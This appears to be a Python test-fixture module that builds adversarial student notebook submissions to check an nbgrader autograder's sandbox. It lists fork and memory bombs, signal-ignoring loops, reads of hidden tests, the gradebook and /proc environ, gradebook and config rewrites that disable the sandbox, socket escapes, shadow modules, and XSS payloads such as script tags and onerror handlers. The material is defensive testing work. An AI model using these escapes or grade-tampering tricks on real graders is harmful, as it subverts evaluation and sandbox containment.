    "sitecustomize.py": "open(__MARKERS__ + '/shadow-sitecustomize-ran', 'w').close()\n",
    "usercustomize.py": "open(__MARKERS__ + '/shadow-usercustomize-ran', 'w').close()\n",
}
SHADOW_USE = src('''
    import importlib, sys
    for name in ("anncourse.grading", "numpy", "sitecustomize"):
        try:
            importlib.import_module(name)
            print("imported", name)
        except Exception as error:
            print("could not import", name, type(error).__name__, error)
''')

HTML_ANSWER = ("<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n"
               "<b>bold</b> <a href=\"javascript:alert(3)\">click</a>\n\n<iframe src=\"https://example.com\"></iframe>")
HTML_OUTPUT = "print('<script>alert(4)</script>')\nprint('<img src=x onerror=alert(5)>')\n"
UNESCAPED_HTML = ("<script>alert(", "<img src=x onerror", "<a href=\"javascript:alert", "<iframe src=\"https://example.com")


# Honest answers -----------------------------------------------------------------------------------

HONEST = src('''
    import io
    import os
    import pathlib
    import sys
    import warnings
    from typing import Callable

    def _note(message: str) -> None:
        warnings.warn(message, UserWarning)   # on stderr, from a helper

    pathlib.Path("notes.txt").write_text("written by the student\\n")
    with io.open(os.path.join(os.getcwd(), "notes.txt")) as f:
        assert f.read() == "written by the student\\n"
    print("python", sys.version_info[:2], "in", pathlib.Path.cwd().name)
    _note("a warning from a helper")
    _checker: Callable[[np.ndarray], np.ndarray]
''')
HONEST_STEP = src('''
    def step(z):
        _note("step was called")
        return (np.asarray(z) >= 0).astype(np.int64)
''')


def honest(ctx: Context):
    return notebook({"step": HONEST + "\n" + HONEST_STEP}, "reference")


def correct_with_extra_cell(code: str, after: str = "step"):
    def build(ctx: Context):
        nb = notebook(base="reference")
        nb.cells.insert(_index(nb, after) + 1, nbformat.v4.new_code_cell(fill(src(code), ctx)))
        return nb
    return build


# The catalogue -----------------------------------------------------------------------------------

def cases() -> list[Case]:
    """Every submission of the batch, in grading order (nbgrader sorts the ids)."""
    timeout, memory, crashed = r"TimeoutError", r"MemoryError|memory limit", r"KernelDied|killed by signal|exited with"
    blank_reason = r"NotImplementedError"
    found = []

    def add(student, what, build, **kwargs):
        found.append(Case(student, what, build, **kwargs))

    # Runaway code.
    add("run-endless-loop", "`while True: pass` in the first answer", after_step("while True:\n    pass\n"),
        status="timeout", reason=timeout, attacks=("time",))
    add("run-loop-ignores-keyboardinterrupt", "SIGINT/SIGTERM ignored, then a loop that swallows BaseException",
        after_step('''
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        '''), status="timeout", reason=timeout, attacks=("time",))
    add("run-endless-print", "prints forever (Python's print and fd 2)", after_step('''
            import os
            while True:
                print("spam " * 200)
                try:
                    os.write(2, b"spam " * 200)
                except OSError:
                    pass
        '''), status="timeout", reason=timeout, attacks=("time", "output"))
    add("run-2gb-string", "a 2 GiB string (the sandbox has 1 GiB)", after_step("s = 'x' * (2 * 2**30)\nprint(len(s))\n"),
        status="memory", reason=memory, attacks=("memory",))
    add("run-memory-bomb", "appends 10 MB blocks forever", after_step('''
            blocks = []
            while True:
                blocks.append(bytearray(10**7))
        '''), status="memory", reason=memory, attacks=("memory",))
    add("run-fork-bomb", "os.fork up to 3000 times (children sleep 60 s)", after_step(FORK_BOMB),
        attacks=("processes",))
    add("run-os-exit", "os._exit(0) in the first answer", after_step("import os\nos._exit(0)\n"),
        status="crashed", reason=crashed, attacks=("crash",))
    add("run-sys-exit", "sys.exit(0) in the first answer", after_step("import sys\nsys.exit(0)\n"),
        attacks=("crash",))
    add("run-sigkill-self", "os.kill(os.getpid(), 9)", after_step("import os\nos.kill(os.getpid(), 9)\n"),
        status="crashed", reason=crashed, attacks=("crash",))
    add("run-segfault", "ctypes.string_at(0)", after_step("import ctypes\nctypes.string_at(0)\n"),
        status="crashed", reason=crashed, attacks=("crash",))
    add("run-infinite-recursion", "unbounded recursion with the recursion limit raised to 10**6", after_step('''
            import sys
            sys.setrecursionlimit(10**6)
            def down(n):
                return down(n + 1) + 1
            down(0)
        '''), attacks=("crash",))

    # The notebook's structure.
    add("nb-deleted-test-cells", "every test cell deleted", edited(delete_tests), reason=blank_reason,
        attacks=("structure",))
    add("nb-edited-test-cells", "every test cell replaced by `assert True`", edited(edit_tests), reason=blank_reason,
        attacks=("structure",))
    add("nb-duplicated-test-cells", "every test cell followed by a copy (`assert True`, same metadata)",
        edited(duplicate_tests), reason=blank_reason, attacks=("structure",))
    add("nb-retyped-test-cells", "every test cell turned into markdown", edited(retype_test), reason=blank_reason,
        attacks=("structure",))
    add("nb-raised-points", "points: 100 on every graded cell", edited(raise_points), reason=blank_reason,
        attacks=("structure",))
    add("nb-fake-graded-cell", "a new graded cell worth 100 points that passes", edited(fake_graded_cell),
        reason=blank_reason, attacks=("structure",))
    add("nb-changed-grade-ids", "every grade id renamed", edited(change_grade_ids), attacks=("structure",))
    add("nb-foreign-kernelspec", "a bash kernelspec that echoes success", edited(foreign_kernelspec),
        reason=blank_reason, attacks=("structure",))
    add("nb-renamed-file", "handed in as perceptron2.ipynb only", lambda ctx: notebook(), files=renamed,
        keep_notebook=False, graded=False, attacks=("file",))
    add("nb-invalid-json", "not JSON", lambda ctx: '{"cells": [ this is not json', graded=False, attacks=("file",))
    add("nb-empty-file", "an empty file", lambda ctx: "", graded=False, attacks=("file",))
    add("nb-nbformat-3", "the blank release written as nbformat 3", nbformat3, attacks=("file",))

    # Answers that lie about themselves.
    add("lie-always-equal", "objects whose __eq__ is always True and whose __array__ looks right",
        lying("always-equal"), attacks=("lie",))
    add("lie-ndarray-subclass", "an ndarray subclass whose ==, all() and tolist() lie",
        lying("lying-ndarray-subclass"), attacks=("lie",))
    for student, code in PATCHES.items():
        add(f"lie-{student}", f"wrong answers and {student.replace('-', ' ')}", before_step(code, "wrong"), attacks=("lie",))
    for student, code in HOOKS.items():
        add(student, f"wrong answers and {student.replace('-', ' ')}", before_step(code, "wrong"), attacks=("hook",), feedback=student == "hook-set-custom-exc")
    for student, code in OBFUSCATED.items():
        add(student, f"wrong answers, every hook and patch {student.replace('-', ' ')}",
            before_step(code, "wrong"), attacks=("hook",))

    # Reading the hidden tests and references.
    add("read-solutions-relative", "open('../'*n + 'solutions/...'), also autograded/ and the config",
        after_step(READ_SOLUTIONS_RELATIVE), attacks=("read",))
    add("read-solutions-absolute", "the course's and the repository's solutions, autograded notebooks, "
        "the grading process's request.json, a walk of /tmp, /work, /root...", after_step(READ_SOLUTIONS_ABSOLUTE),
        attacks=("read",), feedback=True)
    add("read-gradebook", "sqlite3 on gradebook.db (its source_cell table holds the hidden tests)",
        after_step(READ_GRADEBOOK), attacks=("read",))
    add("read-proc-self", "/proc/self/{cmdline,environ,mountinfo,maps,fd/*}", after_step(READ_PROC_SELF),
        attacks=("read",))
    add("read-proc-1", "/proc/1/{cmdline,environ}, /proc/1/root/<course>", after_step(READ_PROC_1), attacks=("read",))
    add("read-proc-environ", "/proc/*/{cmdline,environ,fd}", after_step(READ_PROC_ENVIRON), attacks=("read",))
    add("read-stack-frames", "sys._getframe and inspect.stack, in the cell and during the hidden tests' calls",
        spy(SPY_FRAMES), attacks=("read",))
    add("read-gc-objects", "gc.get_objects() and sys.modules searched for _grader_ names, also during calls",
        spy(SPY_GC), attacks=("read",))
    add("read-linecache", "linecache.cache and the grader's file names, also during calls", spy(SPY_LINECACHE),
        attacks=("read",))

    # Writing where grades are decided (all by absolute and relative paths).
    add("write-gradebook", "sqlite3 UPDATE grade SET manual_score, CREATE TABLE/TRIGGER, raw bytes",
        after_step(WRITE_GRADEBOOK), attacks=("write",))
    add("write-other-submission", f"overwrites submitted/{VICTIM}/ and adds a file there",
        after_step(WRITE_SUBMITTED), attacks=("write",))
    add("write-grading-module", "anncourse/grading.py with no-op checks in the course root; the repository's "
        "copy opened for writing", after_step(WRITE_GRADING_PY.replace("__NO_OP__", repr(NO_OP_GRADING))), attacks=("write",))
    add("write-nbgrader-config", "nbgrader_config.py turning the sandbox off; a .pth in site-packages",
        after_step(WRITE_CONFIG), attacks=("write",))
    add("write-autograded-victim", f"creates autograded/{VICTIM}/ and feedback/{VICTIM}/",
        after_step(WRITE_AUTOGRADED), attacks=("write",))

    # Reaching out of the sandbox.
    add("net-tcp-localhost", "TCP to the test's listener on 127.0.0.1 (and the host's addresses, DNS)",
        after_step(NETWORK_TCP), attacks=("network",))
    add("net-unix-socket", "the test's Unix socket (a file on the host) and an abstract one",
        after_step(NETWORK_UNIX), attacks=("network",))
    add("proc-setsid-daemon", "setsid double fork, then exec a writer that runs 90 s",
        after_step(DAEMON.replace("__BODY__", repr(DAEMON_BODY))), attacks=("processes",))
    add("shadow-modules", "anncourse/grading.py, numpy.py, sitecustomize.py next to the notebook",
        after_step(SHADOW_USE, "wrong"), files=lambda ctx: {k: fill(v, ctx) for k, v in SHADOW_FILES.items()},
        attacks=("shadow",), feedback=True)
    add("html-script-in-answers", "<script>, <img onerror>, javascript: links in the markdown answer and outputs",
        lambda ctx: notebook({MARKDOWN_ANSWER: HTML_ANSWER, "step": BLANK_ANSWERS["step"] + "\n" + HTML_OUTPUT}),
        reason=blank_reason, attacks=("html",), feedback=True)

    # Broken answers and fake success.
    add("wrong-random-answers", "random 0/1 and random floats", lambda ctx: notebook({
        "step": "_rng = np.random.default_rng(0)\ndef step(z):\n    return _rng.integers(0, 2, size=np.shape(z))\n",
        "multiclass_predict": "def multiclass_predict(X, W, b):\n    return _rng.integers(0, np.shape(W)[1], size=len(X))\n",
        "multiclass_epoch": "def multiclass_epoch(X, y, W, b, lr=1.0):\n"
                            "    return _rng.normal(size=np.shape(W)), _rng.normal(size=np.shape(b)), int(_rng.integers(len(X)))\n",
        "multiclass_fit": FIT + "    return (_rng.normal(size=(np.shape(X)[1], n_classes)), _rng.normal(size=n_classes),\n"
                                "            [int(_rng.integers(len(X)))])\n",
        "train_digits": "def train_digits(X, y):\n    return _rng.normal(size=(64, 10)), _rng.normal(size=10)\n",
    }), attacks=("wrong",))
    add("wrong-nan-answers", "NaN everywhere", lambda ctx: notebook({
        "step": "def step(z):\n    return np.full(np.shape(z), np.nan)\n",
        "multiclass_predict": "def multiclass_predict(X, W, b):\n    return np.full(len(X), np.nan)\n",
        "multiclass_epoch": "def multiclass_epoch(X, y, W, b, lr=1.0):\n"
                            "    return np.full(np.shape(W), np.nan), np.full(np.shape(b), np.nan), float('nan')\n",
        "multiclass_fit": FIT + "    return np.full((np.shape(X)[1], n_classes), np.nan), np.full(n_classes, np.nan), [float('nan')]\n",
        "train_digits": "def train_digits(X, y):\n    return np.full((64, 10), np.nan), np.full(10, np.nan)\n",
    }), attacks=("wrong",))
    add("wrong-prints-all-tests-passed", "prints 'All tests passed' and fake [ok] lines", after_step('''
            print("All tests passed")
            for name in ("test_step", "test_multiclass_predict", "test_multiclass_epoch", "test_multiclass_fit",
                         "test_train_digits"):
                print(f"[ok] {name}")
            print("Score: 14/14")
        '''), reason=blank_reason, attacks=("fake",))

    # Odd but honest: full marks.
    add("ok-pasted-test-cell-duplicate-metadata", "reference answers and a copy of test_step (its metadata too) "
        "pasted after multiclass_predict", edited(paste_test_cell(3, "multiclass_predict"), "reference"), expect=dict(FULL),
        attacks=("honest",))
    add("ok-pasted-test-cell-old-schema", "reference answers and a copy of test_step with schema_version 1, "
        "pasted right after the step answer", edited(paste_test_cell(1, "step"), "reference"), expect=dict(FULL),
        attacks=("honest",))
    add("ok-pasted-test-cell-no-grade-id", "reference answers and a copy of test_step whose metadata has no "
        "grade_id nor schema_version (pre-1.0 nbgrader)", edited(paste_test_cell(None, "multiclass_fit", grade_id=False),
                                                                 "reference"), expect=dict(FULL), attacks=("honest",))
    add("ok-honest-imports", "imports os, sys, pathlib, io, typing.Callable; writes and reads a file; warns",
        honest, expect=dict(FULL), status="graded", attacks=("honest",))
    add("ok-os-exit-in-extra-cell", "reference answers and an extra cell with os._exit(0) after the first answer",
        correct_with_extra_cell("import os\nos._exit(0)\n"), expect=dict(FULL), status="crashed", attacks=("honest",))
    add("ok-fork-bomb-in-extra-cell", "reference answers and the fork bomb in an extra cell after the first answer",
        correct_with_extra_cell(FORK_BOMB), expect=dict(FULL), attacks=("honest", "processes"))
    add("ok-stderr-flood", "reference answers; the step answer cell writes 300 kB straight to file descriptor 2 "
        "(as a C library or a subprocess would)", lambda ctx: notebook({"step": REFERENCE_ANSWERS["step"] + "\n\n"
        "import os\nfor _ in range(300):\n    os.write(2, b'x' * 1000 + b'\\n')\n"}, "reference"),
        expect=dict(FULL), status="graded", attacks=("honest",))
    add("part-endless-loop-in-one-function", "reference answers except step, which loops forever when called",
        lambda ctx: notebook({"step": "def step(z):\n    while True:\n        pass\n"}, "reference"),
        expect={**FULL, "test_step": 0.0}, status="timeout", reason=timeout, attacks=("time",), feedback=True)
    return found


def submissions(ctx: Context) -> dict[str, Any]:
    """The whole batch: the references before and after, the blank release, then every case."""
    batch = {REFERENCE_BEFORE: notebook(base="reference"), BLANK: notebook()}
    for case in cases():
        batch[case.student] = case.build(ctx)
    batch[REFERENCE_AFTER] = notebook(base="reference")
    return batch


def hidden_lines(min_length: int = 30) -> set[str]:
    """Lines of the source notebook's hidden tests that the student never sees (release, answers)."""
    hidden = {line.strip() for cell in SOURCE.cells if cell.cell_type == "code"
              for block in re.findall(r"### BEGIN HIDDEN TESTS(.*?)### END HIDDEN TESTS", cell.source, re.S)
              for line in block.splitlines() if len(line.strip()) >= min_length}
    shown = {line.strip() for cell in RELEASE.cells for line in cell.source.splitlines()}
    shown |= {line.strip() for text in REFERENCE_ANSWERS.values() for line in text.splitlines()}
    return hidden - shown
